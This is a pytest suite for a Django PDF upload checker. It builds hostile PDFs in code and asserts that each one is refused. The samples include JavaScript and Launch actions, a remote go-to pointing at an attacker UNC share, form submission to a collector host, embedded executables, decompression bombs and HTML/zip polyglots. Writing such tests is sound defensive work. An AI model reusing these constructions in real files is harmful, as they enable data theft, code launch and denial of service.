"""The upload corpus: every kind of active content, decompression bombs, polyglots and
renamed executables are refused by the one PDF check (governance.attachments); plain
PDFs with ordinary links and bookmarks pass. Every hostile file is built here with
pikepdf, no binary fixtures.
"""

from __future__ import annotations

import io
import zlib

import pikepdf
import pytest
from django.core.exceptions import ValidationError
from pikepdf import Array, Dictionary, Name, String
from pypdf._codecs._codecs import LzwCodec

from governance import attachments


def _save(pdf: pikepdf.Pdf, **kwargs) -> bytes:
    out = io.BytesIO()
    pdf.save(out, **kwargs)
    return out.getvalue()


def plain(pages: int = 1) -> pikepdf.Pdf:
    pdf = pikepdf.new()
    for n in range(pages):
        page = pdf.add_blank_page(page_size=(595, 842))
        font = Dictionary(Type=Name.Font, Subtype=Name.Type1, BaseFont=Name.Helvetica)
        page.Resources = Dictionary(Font=Dictionary(F1=font))
        page.Contents = pdf.make_stream(f"BT /F1 14 Tf 72 760 Td (Page {n + 1}) Tj ET".encode())
    return pdf


def js(code: str = "app.alert('pwned')") -> Dictionary:
    return Dictionary(S=Name.JavaScript, JS=String(code))


def add_annot(pdf: pikepdf.Pdf, annot: Dictionary) -> pikepdf.Object:
    annot = pdf.make_indirect(annot)
    page = pdf.pages[0]
    page.obj.Annots = Array([annot])
    annot.P = page.obj
    return annot


# --- the six active-content kinds from the issue ------------------------------------------


def outline_javascript() -> bytes:
    pdf = plain()
    outlines = pdf.make_indirect(Dictionary(Type=Name.Outlines, Count=1))
    item = pdf.make_indirect(Dictionary(Title=String("Summary"), Parent=outlines, A=js()))
    outlines.First = item
    outlines.Last = item
    pdf.Root.Outlines = outlines
    return _save(pdf)


def widget_aa_javascript() -> bytes:
    pdf = plain()
    widget = add_annot(
        pdf,
        Dictionary(
            Type=Name.Annot,
            Subtype=Name.Widget,
            FT=Name.Btn,
            T=String("ok"),
            Rect=[72, 72, 144, 96],
            AA=Dictionary(E=js()),
        ),
    )
    pdf.Root.AcroForm = Dictionary(Fields=Array([widget]))
    return _save(pdf)


def uri_next_javascript() -> bytes:
    pdf = plain()
    # the script sits in its own object, reached only through the link's /Next
    follow_up = pdf.make_indirect(js("this.exportDataObject({cName: 'x'})"))
    add_annot(
        pdf,
        Dictionary(
            Type=Name.Annot,
            Subtype=Name.Link,
            Rect=[72, 72, 300, 96],
            A=Dictionary(S=Name.URI, URI=String("https://www.england.nhs.uk/"), Next=follow_up),
        ),
    )
    return _save(pdf)


def acroform_xfa() -> bytes:
    pdf = plain()
    xfa = pdf.make_stream(b"<xdp:xdp xmlns:xdp='http://ns.adobe.com/xdp/'></xdp:xdp>")
    pdf.Root.AcroForm = Dictionary(Fields=Array(), XFA=xfa)
    return _save(pdf)


def file_attachment_annotation() -> bytes:
    pdf = plain()
    payload = pdf.make_stream(b"MZ\x90\x00 payload")
    payload.Type = Name.EmbeddedFile
    filespec = Dictionary(Type=Name.Filespec, F=String("invoice.exe"), EF=Dictionary(F=payload))
    add_annot(
        pdf,
        Dictionary(
            Type=Name.Annot,
            Subtype=Name.FileAttachment,
            Rect=[72, 72, 90, 90],
            FS=filespec,
            Contents=String("Costs"),
        ),
    )
    return _save(pdf)


def submit_form_outside() -> bytes:
    pdf = plain()
    widget = add_annot(
        pdf,
        Dictionary(
            Type=Name.Annot,
            Subtype=Name.Widget,
            FT=Name.Btn,
            T=String("send"),
            Rect=[72, 72, 144, 96],
            A=Dictionary(
                S=Name.SubmitForm,
                F=Dictionary(FS=Name.URL, F=String("https://collector.example.com/post")),
            ),
        ),
    )
    pdf.Root.AcroForm = Dictionary(Fields=Array([widget]))
    return _save(pdf)


SIX_KINDS = {
    "outline item JavaScript action": (outline_javascript, "/JavaScript"),
    "widget /AA JavaScript": (widget_aa_javascript, "/AA"),
    "URI action whose /Next is JavaScript": (uri_next_javascript, "/JS"),
    "AcroForm /XFA": (acroform_xfa, "/XFA"),
    "FileAttachment annotation with embedded file": (file_attachment_annotation, "/EmbeddedFile"),
    "SubmitForm to an outside URL": (submit_form_outside, "/SubmitForm"),
}


def refusal(data: bytes, field: str = "file") -> str:
    with pytest.raises(ValidationError) as info:
        attachments.inspect_pdf(data, field=field)
    return " ".join(info.value.message_dict[field])


@pytest.mark.parametrize("kind", SIX_KINDS)
def test_each_active_content_kind_from_the_issue_is_refused(kind):
    build, marker = SIX_KINDS[kind]
    message = refusal(build())
    assert "scripts, actions, forms or embedded files" in message
    assert marker in message


@pytest.mark.parametrize("kind", SIX_KINDS)
def test_refused_also_when_saved_in_object_streams(kind):
    build, marker = SIX_KINDS[kind]
    repacked = _save(
        pikepdf.open(io.BytesIO(build())),
        object_stream_mode=pikepdf.ObjectStreamMode.generate,
    )
    assert marker in refusal(repacked)


@pytest.mark.parametrize(
    "make",
    [
        # document-level scripts and opening actions
        lambda pdf: setattr(pdf.Root, "OpenAction", js()),
        lambda pdf: setattr(
            pdf.Root,
            "Names",
            Dictionary(JavaScript=Dictionary(Names=Array([String("init"), js()]))),
        ),
        lambda pdf: setattr(pdf.Root, "AA", Dictionary(WC=js())),
        lambda pdf: setattr(pdf.pages[0].obj, "AA", Dictionary(O=js())),
        # launch, import data, remote go-to, rich media
        lambda pdf: setattr(pdf.Root, "OpenAction", Dictionary(S=Name.Launch, F=String("cmd.exe"))),
        lambda pdf: setattr(
            pdf.Root, "OpenAction", Dictionary(S=Name.ImportData, F=String("data.fdf"))
        ),
        lambda pdf: setattr(
            pdf.Root,
            "OpenAction",
            Dictionary(S=Name.GoToR, F=String("\\\\attacker\\share\\x.pdf"), D=Array([0])),
        ),
        lambda pdf: add_annot(
            pdf,
            Dictionary(
                Type=Name.Annot,
                Subtype=Name.RichMedia,
                Rect=[0, 0, 10, 10],
                RichMediaContent=Dictionary(),
            ),
        ),
        # the catalogue's embedded files
        lambda pdf: pdf.attachments.__setitem__(
            "notes.txt", pikepdf.AttachedFileSpec(pdf, b"hello", mime_type="text/plain")
        ),
        # a chain: GoTo, then a URI, then JavaScript
        lambda pdf: setattr(
            pdf.Root,
            "OpenAction",
            Dictionary(
                S=Name.GoTo,
                D=Array([pdf.pages[0].obj, Name.Fit]),
                Next=Array([Dictionary(S=Name.URI, URI=String("https://x.example"), Next=js())]),
            ),
        ),
    ],
    ids=[
        "open-action-js",
        "names-javascript",
        "catalog-aa",
        "page-aa",
        "launch",
        "import-data",
        "goto-remote",
        "rich-media",
        "embedded-files",
        "next-chain",
    ],
)
def test_other_active_content_is_refused_anywhere(make):
    pdf = plain()
    make(pdf)
    assert "scripts, actions, forms or embedded files" in refusal(_save(pdf))


def raw_pdf(*objects: bytes) -> bytes:
    """A PDF written by hand: object 1 is the catalogue, 2 the page tree, 3 the page;
    further objects are added as given, referred to or not."""
    body = [
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] >>",
        *objects,
    ]
    out = bytearray(b"%PDF-1.7\n")
    offsets = []
    for number, obj in enumerate(body, start=1):
        offsets.append(len(out))
        out += b"%d 0 obj\n" % number + obj + b"\nendobj\n"
    xref = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(body) + 1)
    for offset in offsets:
        out += b"%010d 00000 n \n" % offset
    out += b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (
        len(body) + 1,
        xref,
    )
    return bytes(out)


def test_the_hand_written_pdf_is_itself_acceptable():
    assert attachments.inspect_pdf(raw_pdf(b"<< /Note (harmless) >>")) == 1


def test_a_script_in_an_object_nothing_refers_to_is_still_refused():
    data = raw_pdf(b"<< /S /JavaScript /JS (app.launchURL('https://x.example')) >>")
    assert "/JavaScript" in refusal(data)


def test_names_escaped_with_hex_codes_are_still_recognised():
    # /J#61vaScript is /JavaScript and /J#53 is /JS once parsed
    data = raw_pdf(b"<< /S /J#61vaScript /J#53 (app.alert(1)) >>")
    message = refusal(data)
    assert "/JS" in message and "/JavaScript" in message


def test_names_escaped_with_hex_codes_in_the_catalogue_are_still_recognised():
    # /J#61vaScript is /JavaScript and /J#53 is /JS once parsed
    data = _save(plain(), qdf=True, compress_streams=False, normalize_content=False)
    raw = data.replace(
        b"/Type /Catalog",
        b"/Type /Catalog /OpenAction << /S /J#61vaScript /J#53 (app.alert(1)) >>",
        1,
    )
    assert b"/J#53" in raw
    message = refusal(pikepdf_repair(raw))
    assert "/JS" in message and "/JavaScript" in message


def pikepdf_repair(raw: bytes) -> bytes:
    """Rewrite a hand-edited file so its cross-reference table is right again (the names
    are kept as written in the file: pikepdf writes them back escaped or not, and both
    mean the same name)."""
    return _save(pikepdf.open(io.BytesIO(raw)))


def test_plain_pdfs_with_links_bookmarks_and_forms_of_no_action_pass():
    pdf = plain(pages=3)
    add_annot(
        pdf,
        Dictionary(
            Type=Name.Annot,
            Subtype=Name.Link,
            Rect=[72, 72, 300, 96],
            A=Dictionary(S=Name.URI, URI=String("https://www.legislation.gov.uk/ukpga/2006/41")),
        ),
    )
    with pdf.open_outline() as outline:
        outline.root.append(pikepdf.OutlineItem("Finance", 1))
    pdf.Root.OpenAction = Array([pdf.pages[0].obj, Name.Fit])
    assert attachments.inspect_pdf(_save(pdf)) == 3


# --- decompression bombs ------------------------------------------------------------------


def zeros_deflated(size: int) -> bytes:
    comp = zlib.compressobj(9)
    block = bytes(1 << 20)
    parts = [comp.compress(block) for _ in range(size >> 20)]
    parts.append(comp.compress(bytes(size % (1 << 20))))
    parts.append(comp.flush())
    return b"".join(parts)


def with_raw_stream(raw: bytes, filters) -> bytes:
    pdf = plain()
    stream = pikepdf.Stream(pdf, b"")
    stream.write(raw, filter=filters)
    pdf.pages[0].obj.Contents = Array([pdf.pages[0].obj.Contents, pdf.make_indirect(stream)])
    return _save(pdf, compress_streams=False, stream_decode_level=pikepdf.StreamDecodeLevel.none)


def test_the_issue_bomb_half_a_megabyte_inflating_to_300_mb_is_refused_quickly():
    import time

    data = with_raw_stream(zeros_deflated(300 * 1048576), Name.FlateDecode)
    assert len(data) < 600_000
    started = time.monotonic()
    message = refusal(data)
    assert "too large once decompressed" in message
    assert "one of its streams expands past 64 MiB" in message
    assert time.monotonic() - started < 10


def test_the_inflation_limits_come_from_settings(settings):
    data = with_raw_stream(zeros_deflated(3 * 1048576), Name.FlateDecode)
    assert attachments.inspect_pdf(data) == 1
    settings.ATTACHMENT_MAX_STREAM_BYTES = 2 * 1048576
    assert "one of its streams expands past 2 MiB" in refusal(data)
    settings.ATTACHMENT_MAX_STREAM_BYTES = 64 * 1048576
    settings.ATTACHMENT_MAX_INFLATED_BYTES = 2 * 1048576
    assert "its streams together expand past 2 MiB" in refusal(data)


def test_many_small_streams_add_up_to_the_total_limit(settings):
    settings.ATTACHMENT_MAX_INFLATED_BYTES = 4 * 1048576
    pdf = plain()
    page = pdf.pages[0].obj
    parts = [page.Contents]
    for _ in range(6):
        stream = pikepdf.Stream(pdf, b"")
        stream.write(zeros_deflated(1048576), filter=Name.FlateDecode)
        parts.append(pdf.make_indirect(stream))
    page.Contents = Array(parts)
    data = _save(pdf, compress_streams=False, stream_decode_level=pikepdf.StreamDecodeLevel.none)
    assert "together expand past 4 MiB" in refusal(data)


def test_a_bomb_inside_a_bomb_is_refused_at_the_inner_stage(settings):
    settings.ATTACHMENT_MAX_STREAM_BYTES = 8 * 1048576
    inner = zeros_deflated(100 * 1048576)  # ~100 KB, which itself compresses again
    outer = zlib.compress(inner, 9)
    data = with_raw_stream(outer, Array([Name.FlateDecode, Name.FlateDecode]))
    assert "expands past 8 MiB" in refusal(data)


@pytest.mark.parametrize(
    "encode, filters",
    [
        (lambda d: LzwCodec().encode(d), Name.LZWDecode),
        (lambda d: bytes([129, 0]) * (len(d) // 128) + b"\x80", Name.RunLengthDecode),
        (
            lambda d: zlib.compress(d).hex().encode() + b">",
            Array([Name.ASCIIHexDecode, Name.FlateDecode]),
        ),
    ],
    ids=["lzw", "run-length", "hex-then-flate"],
)
def test_other_filters_are_measured_too(settings, encode, filters):
    settings.ATTACHMENT_MAX_STREAM_BYTES = 1048576
    small = with_raw_stream(encode(bytes(512 * 1024)), filters)
    assert attachments.inspect_pdf(small) == 1
    large = with_raw_stream(encode(bytes(3 * 1048576)), filters)
    assert "expands past 1 MiB" in refusal(large)


def test_lzw_decoder_matches_pypdf_round_trip():
    text = b"Better Care Fund section 75 pooled budget " * 5000 + bytes(range(256)) * 40
    decoded = b"".join(attachments._lzw([LzwCodec().encode(text)]))
    assert decoded == text


# --- not PDFs: polyglots, renamed executables, damaged and encrypted files ----------------


def test_a_renamed_windows_executable_is_refused():
    exe = b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff" + bytes(200)
    assert "this is not a PDF" in refusal(exe)


def test_a_renamed_elf_binary_and_a_zip_are_refused():
    assert "this is not a PDF" in refusal(b"\x7fELF\x02\x01\x01" + bytes(100))
    assert "this is not a PDF" in refusal(b"PK\x03\x04" + bytes(100))


def test_a_polyglot_with_html_before_the_pdf_header_is_refused():
    html = b"<html><script>alert(document.cookie)</script></html>\n"
    assert "this is not a PDF" in refusal(html + _save(plain()))


def test_a_polyglot_with_a_zip_archive_after_the_pdf_is_refused():
    archive = io.BytesIO()
    import zipfile

    with zipfile.ZipFile(archive, "w") as zf:
        zf.writestr("payload.js", "WScript.Shell" * 200)
    message = refusal(_save(plain()) + archive.getvalue())
    assert "other content after the end of the PDF" in message


def test_a_few_trailing_newlines_after_eof_are_fine():
    assert attachments.inspect_pdf(_save(plain()) + b"\r\n\n  \n") == 1


def test_damaged_encrypted_and_empty_files_are_refused():
    assert "damaged" in refusal(b"%PDF-1.7\n" + bytes(300))
    encrypted = _save(plain(), encryption=pikepdf.Encryption(owner="o", user="u"))
    assert "Password-protected" in refusal(encrypted)
    assert "empty" in refusal(b"")


def test_the_size_limit_is_checked_before_parsing(settings):
    settings.ATTACHMENT_MAX_BYTES = 1000
    assert "the limit is 0 MiB" in refusal(_save(plain()) + bytes(2000))


def test_deeply_nested_objects_are_refused_without_recursion_errors():
    depth = 5000
    raw = _save(plain(), qdf=True, compress_streams=False)
    nested = b"[" * depth + b"]" * depth
    raw = raw.replace(b"/Type /Catalog", b"/Type /Catalog /Junk " + nested, 1)
    with pytest.raises(ValidationError):
        attachments.inspect_pdf(raw)
